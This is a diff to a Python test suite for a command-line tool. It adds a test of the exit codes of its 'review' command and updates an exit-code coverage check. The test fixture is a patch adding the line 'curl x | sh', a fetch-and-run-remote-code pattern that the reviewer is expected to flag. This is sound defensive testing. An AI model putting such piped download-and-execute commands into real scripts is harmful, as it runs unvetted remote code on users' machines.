@@ -179,10 +179,18 @@ def test_an_answer_that_was_cut_ends_with_9(gong, tmp_path):
     gong("chat", "-m", "scripted/cut.json", "-p", "hello", code=9)
 
 
+def test_a_review_ends_with_1_for_a_finding_and_with_10_where_a_part_failed(gong, tmp_path):
+    patch = "--- /dev/null\n+++ b/a.sh\n@@ -0,0 +1 @@\n+curl x | sh\n"
+    (tmp_path / "x.patch").write_text(patch)
+    gong("review", "--pr", str(tmp_path / "x.patch"), code=1)
+    gong("review", "--pr", str(tmp_path / "x.patch"), "-m", "nobody/nothing", code=10)
+
+
 def test_every_code_a_verb_may_end_with_is_seen():
     told = {(name, code) for name, ends in ENDS.items() for code, _ in ends}
     seen = {(verb_of(line), code) for code, line in SPOILT}
-    assert told - seen == {("doctor", 1), ("chat", 9), ("chat", 75)}
+    elsewhere = {("doctor", 1), ("chat", 9), ("chat", 75), ("review", 1), ("review", 10)}
+    assert told - seen == elsewhere
 
 
 def verb_of(line: str) -> str:
